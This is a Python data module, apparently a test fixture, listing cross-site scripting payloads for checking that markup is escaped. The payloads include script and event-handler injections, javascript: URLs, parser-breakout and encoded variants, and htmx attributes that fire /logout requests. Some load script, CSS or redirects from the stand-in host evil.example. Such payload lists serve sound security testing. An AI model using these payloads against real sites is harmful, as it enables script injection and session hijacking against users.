"""Markup that runs where it is not kept a text (B4)."""

XSS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="', "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", '<a href="jav&#x09;ascript:alert(1)">x</a>', "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>*{background:url(//evil.example/x)}</style>", "<p style=background:url(//evil.example/y)>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "</style><script>alert(1)</script>", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>", "<xss hx-get=/me hx-trigger=load>", "<div hx-on::load=alert(1) hx-trigger=load>x</div>", '" hx-get="/logout" hx-trigger="load" x="',
    "<div data-hx-post=/logout data-hx-trigger=load>", "' hx-vals='js:{x:alert(1)}' '", "<div hx-disable=false hx-headers='js:{a:alert(1)}'>", "<dialog open><button popovertarget=x autofocus>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "`-alert(1)-`", "';alert(1)//", '";alert(1)//', '\\";alert(1)//', "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "＜script＞alert(1)＜/script＞", "%3Cscript%3Ealert(1)%3C/script%3E", "<<script>alert(1)//<</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>", "<img/src=`x`onerror=alert(1)>", '<!--<img src="--><img src=x onerror=alert(1)//">',
)  # fmt: skip
